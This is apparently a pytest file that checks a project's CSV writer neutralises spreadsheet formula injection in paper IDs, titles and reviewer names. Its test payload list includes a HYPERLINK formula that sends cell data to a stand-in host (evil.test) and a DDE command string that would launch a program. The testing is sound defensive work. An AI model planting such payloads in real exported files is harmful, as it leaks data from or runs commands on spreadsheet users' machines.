"""Every CSV the project writes opens safely in a spreadsheet: a cell from the data that a spreadsheet would run
(``=``, ``+``, ``-``, ``@``, a tab or a carriage return first) is written as text, numbers the project computes
stay numbers, and the project reads its own guarded cells back as they were."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import run_cli

from embedsearch.disk.csvout import TRIGGERS, Writer, guarded, unguarded

HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "\rCR"]


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(table: list[list[str]]) -> None:
    """No cell starts a formula: every one starting with a trigger is guarded."""
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_written_as_text_and_read_back_as_it_was(text):
    out = io.StringIO(newline="")
    Writer(out).row([text, 0.5, -0.25, 3, None, "plain"])
    row = cells_of(out.getvalue())[0]
    assert row[0] == f"'{text}" and unguarded(row[0]) == text
    assert row[1:] == ["0.5", "-0.25", "3", "", "plain"]  # computed numbers, negative ones too, stay numbers
    assert guarded("it's fine") == "it's fine" and unguarded("'quoted") == "'quoted"


def test_dedup_csv_guards_hostile_ids(tmp_path):
    text = "Spiking networks learn temporal codes from sparse events with surrogate gradients on neuromorphic chips."
    corpus = tmp_path / "p.jsonl"
    corpus.write_text("".join(json.dumps({"id": i, "title": f"@Title {n}", "abstract": text}) + "\n"
                              for n, i in enumerate(HOSTILE[:2])))
    run_cli("build", str(corpus), "--index", str(tmp_path / "i"), "--model", "hashing-384", check=True)
    shown = run_cli("dedup", "--index", str(tmp_path / "i"), "--csv", str(tmp_path / "pairs.csv"), check=True).stdout
    table = cells_of((tmp_path / "pairs.csv").read_text())
    cell = dict(zip(*table))
    assert len(table) == 2 and {unguarded(cell["a"]), unguarded(cell["b"])} == set(HOSTILE[:2])
    assert_safe(table)
    assert 0.5 < float(cell["cosine"]) <= 1  # a number
    assert table[0][-2:] == ["a title", "b title"] and {unguarded(c) for c in table[1][-2:]} == {"@Title 0", "@Title 1"}
    assert "(@Title 0)" in shown and "(@Title 1)" in shown  # titles beside ids in the text too


def test_assign_and_its_scores_round_trip_hostile_ids(tmp_path):
    subs, revs = HOSTILE[:3], ["@rev-a", "-rev-b", "=rev-c"]
    scores = tmp_path / "scores.csv"
    with scores.open("w", newline="") as fh:
        Writer(fh).rows([("submission", "reviewer", "score"),
                         *((s, r, round(0.1 * (i + j), 2)) for i, s in enumerate(subs) for j, r in enumerate(revs))])
    out = tmp_path / "assignment.csv"
    run_cli("assign", "--scores", str(scores), "--per-paper", "1", "--max-load", "1", "--out", str(out), check=True)
    table = cells_of(out.read_text())
    assert_safe(table)
    assert {unguarded(r[0]) for r in table[1:]} == set(subs) and {unguarded(r[1]) for r in table[1:]} == set(revs)
    assert all(float(r[2]) >= 0 for r in table[1:])


def test_no_module_writes_csv_but_the_guarded_writer():
    """One writer for all: a CSV route added later that writes with ``csv`` directly turns this red."""
    package = Path(__file__).resolve().parents[2] / "embedsearch"
    direct = [str(f.relative_to(package)) for f in package.rglob("*.py") if f.name != "csvout.py"
              and any(w in f.read_text() for w in ("csv.writer(", "DictWriter(", 'write("submission,'))]
    assert direct == []
